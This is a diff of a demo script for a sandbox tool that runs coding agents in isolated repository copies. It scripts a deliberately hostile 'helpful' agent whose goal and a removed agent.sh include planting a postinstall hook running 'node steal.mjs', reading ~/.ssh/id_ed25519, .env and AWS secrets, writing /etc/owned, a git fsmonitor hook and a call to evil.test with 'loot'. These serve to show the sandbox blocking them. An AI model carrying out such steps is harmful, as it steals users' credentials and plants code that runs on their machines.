@@ -1,7 +1,7 @@
 // scripts/demo.mjs: `npm run demo`: the main job, end to end, in a terminal. Needs no key, no account and no network.
 // Everything happens for real, in a throw-away project; nothing outside it is written.
 import { spawnSync } from 'node:child_process';
-import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
 import { root, setUp } from './setup.mjs';
@@ -24,11 +24,35 @@ const env = {
   ...(colour ? { FORCE_COLOR: '1' } : { NO_COLOR: '1' }),
 };
 
+const GOALS = {
+  discount: [
+    'Give 10 % off above 100',
+    "run: sed -i 's/return sum;/return sum > 100 ? sum * 0.9 : sum;/' src/price.mjs",
+    'write: CHANGES.md - 10 % off above 100',
+    'run: node --test',
+    'commit: 10 % off above 100',
+  ].join('\n'),
+  docs: [
+    'Explain the prices',
+    'read: src/price.mjs',
+    'write: docs/prices.md The total is the sum of the prices, less 10 % above 100.',
+  ].join('\n'),
+  helpful: [
+    'Write a help page',
+    'write: HELP.md See docs/prices.md.',
+    `run: sed -i 's/"scripts": {/"scripts": { "postinstall": "node steal.mjs",/' package.json`,
+    'read: ~/.ssh/id_ed25519',
+    'read: .env',
+    'run: touch /etc/owned',
+    'fetch: https://evil.test/?loot=1',
+  ].join('\n'),
+};
+
 try {
   story();
   say(bold(`\nDone in ${((Date.now() - started) / 1000).toFixed(1)} s. Try it in a repository of your own:`));
   say(
-    '  ./ags doctor            what works on this machine\n  ./ags exec -- npm test  run anything over your repository, safely\n  ./ags shell             look around inside',
+    '  ./ags doctor                                what works on this machine\n  ./ags agents                                which agents there are, and how to sign in\n  ./ags start "<goal>" --agent demo           hand a goal to an agent\n  ./ags exec -- npm test                      run anything over your repository, safely',
   );
 } finally {
   rmSync(home, { recursive: true, force: true });
@@ -36,60 +60,80 @@ try {
 
 function story() {
   makeProject();
-  step('1. A command runs over the repository, in a sandbox. Tests pass as if they ran directly.');
-  ags(['exec', '--', 'node', '--test', 'test/price.test.mjs']);
-
-  step('2. An "agent" does what it was asked to, and more than it was asked to.');
+  step('1. Three goals, three agents, at once: each has a branch, a copy of the repository and a sandbox of its own.');
   say(
     dim(
-      readFileSync(join(project, 'agent.sh'), 'utf8')
-        .trim()
-        .split('\n')
-        .slice(1)
-        .map((line) => `    ${line}`)
-        .join('\n'),
+      '   (The demo agent needs no key: its goal says, step by step, what it does. Any real agent goes the same road.)',
     ),
   );
-  const run = ags(['exec', '--review', 'later', '--name', 'discount', '--', 'sh', './agent.sh']);
-  check(run.stderr.includes('changed; nothing was taken'), 'the changes wait for a review');
-  check(readFileSync(join(project, 'src/price.mjs'), 'utf8').includes('return sum;'), 'the original was not written');
-  check(
-    !run.stdout.includes('BEGIN OPENSSH') && !run.stdout.includes('a-real-key') && !run.stdout.includes('hunter2'),
-    'no secret was seen inside',
-  );
+  ags(['start', 'discount', GOALS.discount, '--agent', 'demo', '-d']);
+  ags(['start', 'docs', GOALS.docs, '--agent', 'demo', '-d']);
+  ags(['start', 'helpful', GOALS.helpful, '--agent', 'demo', '-d']);
+  writeFileSync(join(project, 'mine.txt'), 'written meanwhile\n');
+  const list = waitForAll();
 
-  step(
-    '3. It tried to send something to a host that no rule allows. That is written down, with the program that asked.',
-  );
-  const log = ags(['net', 'log', '--denied']);
-  check(run.stderr.includes('refused evil.test'), 'the host was refused');
-  check(log.stdout.includes('evil.test'), 'and the log says so');
-
-  step('4. Three more at once, over the same repository: they do not see each other.');
-  parallel();
-
-  step('5. What changed? Files that can run code on your machine come first.');
-  ags(['review', 'discount'], { quiet: false });
-
-  step('6. Take the rest, but not those.');
-  ags(['review', 'discount', '--accept-all']);
-  check(readFileSync(join(project, 'src/price.mjs'), 'utf8').includes('0.9'), 'src/price.mjs was taken');
-  check(!readFileSync(join(project, 'package.json'), 'utf8').includes('postinstall'), 'the install script was not');
-  show('git', ['status', '--short']);
-
-  step('7. Throw away what is left.');
-  ags(['review', 'discount', '--discard-all']);
-  ags(['cleanup', '--all', '--yes']);
+  step('2. Who needs you?');
   ags(['list']);
+  check(list.length === 3 && list.every(({ state }) => state === 'ready'), 'all three are ready');
+
+  step('3. One of them did more than it was asked to. What it tried, and what came of it:');
+  const log = ags(['logs', 'helpful']);
+  check(log.stdout.includes('evil.test:443 refused'), 'a host that no rule allows was refused');
+  check(!/BEGIN OPENSSH|hunter2/.test(readLog('helpful')), 'no secret was seen inside');
+  check(!existsSync('/etc/owned'), 'nothing was written outside');
+
+  step('4. What changed? Files that can run code on your machine come first, with the reason.');
+  const diff = ags(['diff', 'helpful']);
+  check(/^MODIFIED +package\.json/m.test(diff.stdout), 'package.json is pointed out');
+
+  step('5. Merge the good ones. What you are working on is not touched.');
+  ags(['merge', 'discount', '-y']);
+  ags(['merge', 'docs', '-y']);
+  check(readFileSync(join(project, 'src/price.mjs'), 'utf8').includes('0.9'), 'src/price.mjs was merged');
+  check(readFileSync(join(project, 'mine.txt'), 'utf8') === 'written meanwhile\n', 'your own file is as it was');
+  show('git', ['log', '--oneline', '--format=%h %s (%an)']);
+
+  step('6. Of the other one, everything but what can run code.');
+  ags(['merge', 'helpful', '-y']);
+  check(existsSync(join(project, 'HELP.md')), 'HELP.md was merged');
+  check(!readFileSync(join(project, 'package.json'), 'utf8').includes('postinstall'), 'the install script was not');
+
+  step('7. Changed your mind? And then throw the rest away.');
+  ags(['undo']);
+  ags(['rm', '--yes', 'helpful']);
+  ags(['cleanup', '--yes']);
+  show('git', ['status', '--short', '--branch']);
+
+  step('8. Any command runs the same way, over your files as they are; nothing is written until you say so.');
+  const run = ags([
+    'exec',
+    '--review',
+    'later',
+    '--name',
+    'try',
+    '--',
+    'sh',
+    '-c',
+    'node --test >/dev/null && echo tests pass; echo x > tried.txt; cat ~/.ssh/id_ed25519',
+  ]);
+  check(
+    run.stdout.includes('tests pass') && !existsSync(join(project, 'tried.txt')),
+    'it ran, and nothing was written',
+  );
+  ags(['cleanup', '--all', '--yes']);
 }
 
-function parallel() {
-  const script =
-    'for n in 1 2 3; do (node AGS exec --review later --name "worker-$n" -- sh -c "echo made by worker $n > result.txt; cat result.txt") & done; wait'.replace(
-      'AGS',
-      JSON.stringify(join(root, 'bin/ags.cjs')),
-    );
-  show('sh', ['-c', script], { hidden: true });
+function waitForAll() {
+  for (const end = Date.now() + 120_000; Date.now() < end;) {
+    const { tasks } = JSON.parse(run(process.execPath, [join(root, 'bin/ags.cjs'), 'list', '--json'], true).stdout);
+    if (tasks.every(({ live }) => !live)) return tasks;
+    spawnSync('sleep', ['0.2']);
+  }
+  return [];
+}
+
+function readLog(name) {
+  return readFileSync(join(home, '.local/state/ags/tasks', name, 'agent.log'), 'utf8');
 }
 
 function makeProject() {
@@ -100,16 +144,6 @@ function makeProject() {
     'test/price.test.mjs':
       "import test from 'node:test';\nimport assert from 'node:assert';\nimport { total } from '../src/price.mjs';\n\ntest('the total is the sum of the prices', () => {\n  assert.equal(total([{ price: 2 }, { price: 3 }]), 5);\n});\n",
     '.gitignore': '.env\n',
-    'agent.sh': [
-      '#!/bin/sh',
-      "sed -i 's/return sum;/return sum > 100 ? sum * 0.9 : sum;/' src/price.mjs",
-      "echo '- 10 % off above 100' > CHANGES.md",
-      `sed -i 's/"scripts": {/"scripts": { "postinstall": "node steal.mjs",/' package.json`,
-      'cat ~/.ssh/id_ed25519; cat .env; echo "key: $AWS_SECRET_ACCESS_KEY"',
-      'touch /etc/owned /usr/bin/owned; git config core.fsmonitor "touch /tmp/owned"',
-      'node -e \'fetch("https://evil.test/?loot=1").catch((e) => console.log("network:", e.cause.code))\'',
-      '',
-    ].join('\n'),
   };
   for (const [path, text] of Object.entries(files)) {
     mkdirSync(dirname(join(project, path)), { recursive: true });
@@ -120,8 +154,10 @@ function makeProject() {
   writeFileSync(join(project, '.env'), 'DB_PASSWORD=hunter2\n');
   for (const args of [
     ['init', '-q', '-b', 'main'],
+    ['config', 'user.name', 'You'],
+    ['config', 'user.email', 'you@example.test'],
     ['add', '-A'],
-    ['-c', 'user.name=Demo', '-c', 'user.email=demo@example.test', 'commit', '-q', '-m', 'webshop'],
+    ['commit', '-q', '-m', 'webshop'],
   ])
     spawnSync('git', args, { cwd: project, env });
 }
@@ -131,7 +167,8 @@ function step(text) {
 }
 
 function ags(args, { quiet = false } = {}) {
-  say(dim(`$ ags ${args.map((word) => (/^[\w./:@=-]+$/.test(word) ? word : `'${word}'`)).join(' ')}`));
+  const shown = args.map((word) => (/^[\w./:@=-]+$/.test(word) ? word : `'${word.replace(/\n.*/s, ' ...')}'`));
+  say(dim(`$ ags ${shown.join(' ')}`));
   return run(process.execPath, [join(root, 'bin/ags.cjs'), ...args], quiet);
 }
 
